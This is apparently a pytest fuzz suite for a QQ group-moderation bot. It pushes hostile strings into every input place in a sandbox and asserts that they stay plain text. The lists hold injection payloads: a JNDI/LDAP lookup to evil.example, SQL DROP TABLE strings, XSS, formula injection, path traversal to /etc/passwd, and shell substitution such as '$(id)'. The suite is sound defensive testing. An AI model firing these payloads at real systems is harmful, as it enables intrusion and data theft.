"""Hostile text in every place where the bot takes in words: none of it ever becomes anything but text.

The places are generated from the manifests (every parameter of every form, every setting) and joined by those a manifest
does not name: cards, nicknames, the group's name, a request to join, mere talk. The oracle reads what reaches the endpoint:
each segment is text, an @ of somebody who is in the group, or a picture sent as bytes.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest

from lizheng.plugin.settings import settings_of
from lizheng.sandbox.stage import HostStage
from lizheng.sandbox.world.refusal import WorldError
from tests.support.reliability_figures import Note

AUTHORS = 12
FAILING = ("试坏", "试代")
"""Fail on purpose: the one always, the other for what is no command."""
CODES = (
    "at,qq=all",
    "at,qq=10001",
    "image,file=http://evil.example/a.png",
    "image,file=file:///etc/passwd",
    "record,file=file:///dev/zero",
    "video,file=http://evil.example/a.mp4",
    "json,data={}",
    "xml,data=<a/>",
    "reply,id=1",
    "forward,id=1",
    "node,id=1",
    "poke,qq=10001",
    "share,url=http://evil.example",
    "music,type=qq,id=1",
    "rps",
    "dice",
    "shake",
    "anonymous",
    "face,id=1",
    "redbag,title=1",
    "markdown,content=x",
    "file,file=/etc/passwd",
)
TEMPLATES = (
    "{0.__class__}",
    "{0.__class__.__mro__}",
    "{who.__init__.__globals__}",
    "{ctx.host.config}",
    "{}",
    "{{}}",
    "{",
    "}",
    "{name}",
    "{who}",
    "{sentence}",
    "{0!r:>9999999}",
    "{:{}}",
    "%s",
    "%(name)s",
    "%n%n%n",
    "%99999999d",
    "$name",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "\\N{BULLET}",
    "\\u0000",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    "&#91;CQ:at,qq=all&#93;",
    "&amp;#91;CQ:at,qq=all&amp;#93;",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "]]>",
    "[链接](javascript:alert(1))",
    "' OR '1'='1",
    "'; DROP TABLE lizheng_record; --",
    '"; DELETE FROM lizheng_entry; --',
    '=HYPERLINK("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "../../etc/passwd",
    "C:\\Windows\\system32",
    "`id`",
    "$(id)",
    "|id",
)
STRANGE = (
    "\u202e反的",
    "a\u202eb\u202cc",
    "\u2066隔离\u2069",
    "零\u200b宽\u200d字\ufeff符",
    "\u00ad软\u00ad连\u00ad字",
    "换\n行",
    "回车\r\n里正：移出：done",
    "制\t表",
    "\u2028行\u2029段",
    "\x1b[31m红",
    "\x00空",
    "\x07响",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈🇨🇳",
    "👍🏿" * 40,
    "e\u0301" * 50,
    "z" + "\u0336" * 200,
    "ﷺ" * 60,
    "𒐫" * 60,
    "\u3164",
    "\u2800",
    "\u115f\u1160",
    "\ud800",
    "\udfff坏",
    "\uffff",
    "\U000e0041\U000e007f",
    "٣٤٥",
    "①②③",
    "１２３",
    "／帮助",
    "/帮助",
    "／／",
    "。。。",
    "…" * 100,
    "字" * 3000,
    "a " * 2000,
    "@全体成员",
    "@all",
    "＠全体成员",
    "里正：已撤回",
    "【广告】",
    "-1",
    "0",
    "9" * 400,
    "1e999",
    "NaN",
    "-0.0",
    "0x7f",
    "٣",
    "NULL",
    "None",
    "true",
    "[]",
    "{}",
)


def _payloads() -> Iterator[str]:
    for code in CODES:
        yield f"[CQ:{code}]"
        yield f"［CQ：{code}］"
        yield f"&#91;CQ:{code}&#93;"
        yield f"好[CQ:{code}]的"
        yield f"[CQ:{code}"
    for text in (*TEMPLATES, *MARKUP):
        yield text
        yield f"你好 {text}"
    yield from STRANGE


EVERYBODY = "[CQ:at,qq=all]"
"""What would annoy most; it goes everywhere also when only a few payloads do."""
PAYLOADS = tuple(dict.fromkeys(_payloads()))


def batches(payloads: list[str]) -> list[list[str]]:
    """As many at a time as there are admins to say them."""
    return [payloads[start : start + AUTHORS] for start in range(0, len(payloads), AUTHORS)]


class Sink:
    """A place that takes words; `do(payload, who)` puts them there."""

    def __init__(self, name: str, do: Any) -> None:
        self.name, self.do = name, do
        self.answered = 0


class Square:
    """A group where everything is on, many admins, and the calls that reach the endpoint."""

    def __init__(self, stage: HostStage) -> None:
        self.stage, self.world = stage, stage.world
        self.owner = int(self.world.add_person("群主").user_id)
        self.admins = [int(self.world.add_person(f"管理员{n}").user_id) for n in range(AUTHORS)]
        self.target = int(self.world.add_person("小王").user_id)
        self.id = self.world.add_group("广场", self.owner, (self.target,), self.admins).group_id
        self.turns = itertools.cycle(self.admins)

    async def open(self) -> None:
        host = self.stage.host
        await self.stage.introduce(self.id)
        for feature in host.features.values():
            if not feature.always_on:
                await host.switch(host.groups[self.id], feature.id, on=True)
        await self.stage.settle()

    def say(self, parts: list[dict[str, Any]]) -> None:
        self.world.say(self.id, next(self.turns), parts)

    def words(self, *texts: str) -> None:
        """Texts one after the other; one that is an @ is a mention of a member."""
        parts: list[dict[str, Any]] = []
        for text in texts:
            is_at = text.startswith("@小")
            parts.append(
                {"type": "at", "data": {"qq": str(self.target)}}
                if is_at
                else {"type": "text", "data": {"text": f"{text} "}}
            )
        self.say(parts)

    # — the places —————————————————————————————————————————————————————————————————————————

    def sinks(self) -> list[Sink]:
        found: list[Sink] = []
        for feature in self.stage.host.features.values():
            for command in feature.commands:
                for form in command.forms:
                    if command.name in FAILING:
                        continue
                    head = form.example.split()
                    for place in range(len(form.words[:1]) + 1, max(2, len(head)) + 1):
                        # The word in this place, and what follows it, gives way to the payload.
                        kept = tuple(head[:place])
                        found.append(Sink(f"{' '.join(kept)} …", lambda p, kept=kept: self.words(*kept, p)))
            for one in settings_of(feature):
                told = ("/设置", feature.title, one.title)
                found.append(Sink(" ".join(told), lambda p, told=told: self.words(*told, p)))
        return [*found, *self.others()]

    def others(self) -> Iterator[Sink]:
        yield Sink("talk", lambda p: self.words(p))
        yield Sink("an unknown command", lambda p: self.words(f"/{p}"))
        yield Sink("a near miss", lambda p: self.words(f"/白明单{p}"))
        yield Sink("an ad", lambda p: self.words(f"招网店兼职打字员，日结，加QQ 28475619 {p}"))
        yield Sink("a card", self.card)
        yield Sink("a nickname", self.nickname)
        yield Sink("the group's name", self.group_name)
        yield Sink("a newcomer", self.newcomer)
        yield Sink("a private word", lambda p: self.world.whisper(self.target, p))

    def card(self, payload: str) -> None:
        self.world.set_card(self.id, self.target, payload)
        self.world.say(self.id, self.target, "在")
        self.words("/警告", "@小王", "刷屏")
        self.words("/白名单", "查看")

    def nickname(self, payload: str) -> None:
        self.world.set_card(self.id, self.target, "")
        self.world.set_nickname(self.target, payload)
        self.world.say(self.id, self.target, "在")
        self.words("/试投", "一句话")
        self.words("/收费", "@小王", "20")

    def group_name(self, payload: str) -> None:
        self.world.set_group_name(self.id, payload or "空", self.owner)
        self.words("/自检")

    def newcomer(self, payload: str) -> None:
        person = int(self.world.add_person(payload).user_id)
        self.world.join(self.id, person)
        self.world.say(self.id, person, "大家好")
        self.world.leave(self.id, person)

    # — what reached the endpoint ——————————————————————————————————————————————————————————

    def undeclared(self) -> list[str]:
        """Segments and parameters that nobody declared, of all calls since the last look."""
        found: list[str] = []
        for call in self.world.api_log:
            if call.action.startswith("send_"):
                message = call.params.get("message", call.params.get("messages"))
                found += list(self._wrong(message))
        self.world.api_log.clear()
        return found

    def _wrong(self, message: Any) -> Iterator[str]:
        if not isinstance(message, list):
            yield f"a message that is {type(message).__name__}"
            return
        for segment in message:
            kind, data = segment["type"], segment["data"]
            if kind == "node":
                yield from self._wrong(data["content"])
            elif kind == "text":
                if "<class '" in data["text"] or "__globals__" in data["text"].replace(TEMPLATES[2], ""):
                    yield f"a template that was filled: {data['text']!r}"
                if data["text"].startswith("出了点问题"):
                    yield "a handler that failed"
            elif kind == "at":
                if not data["qq"].isdigit() or int(data["qq"]) not in self.world.people:
                    yield f"an @ of {data['qq']!r}"
            elif kind != "image" or not data["file"].startswith("base64://"):
                yield f"a {kind}: {data!r}"[:200]


async def everywhere(stage: HostStage, per_sink: int) -> tuple[int, list[str], list[str]]:
    """`per_sink` payloads into every place; the number of places, those that never said anything, and what was wrong."""
    square = Square(stage)
    await square.open()
    chance = random.Random(per_sink)
    wrong: list[str] = []
    rest = list(PAYLOADS)
    chance.shuffle(rest)
    supply = itertools.cycle(rest)
    sinks = square.sinks()
    for sink in sinks:
        for batch in batches([EVERYBODY, *itertools.islice(supply, per_sink - 1)]):
            for payload in batch:
                try:
                    sink.do(payload)
                except (WorldError, UnicodeEncodeError):
                    continue
            await stage.settle()
            sink.answered += any(c.action.startswith("send_") for c in square.world.api_log)
            wrong += [f"{sink.name}: {what}" for what in square.undeclared()]
            await stage.move(timedelta(seconds=61))
    return len(sinks), [sink.name for sink in sinks if not sink.answered], wrong


async def test_hostile_text_stays_text(stage: HostStage, figure: Note) -> None:
    sinks, silent, wrong = await everywhere(stage, 6)
    assert wrong == []
    assert len(silent) <= sinks // 10, silent
    figure("payloads", payloads=6, sinks=sinks, undeclared=0)


@pytest.mark.nightly
async def test_every_hostile_text_stays_text_everywhere(stage: HostStage, figure: Note) -> None:
    assert len(PAYLOADS) >= 200
    sinks, silent, wrong = await everywhere(stage, len(PAYLOADS))
    assert wrong == []
    assert len(silent) <= sinks // 10, silent
    figure("payloads", payloads=len(PAYLOADS), sinks=sinks, undeclared=0)
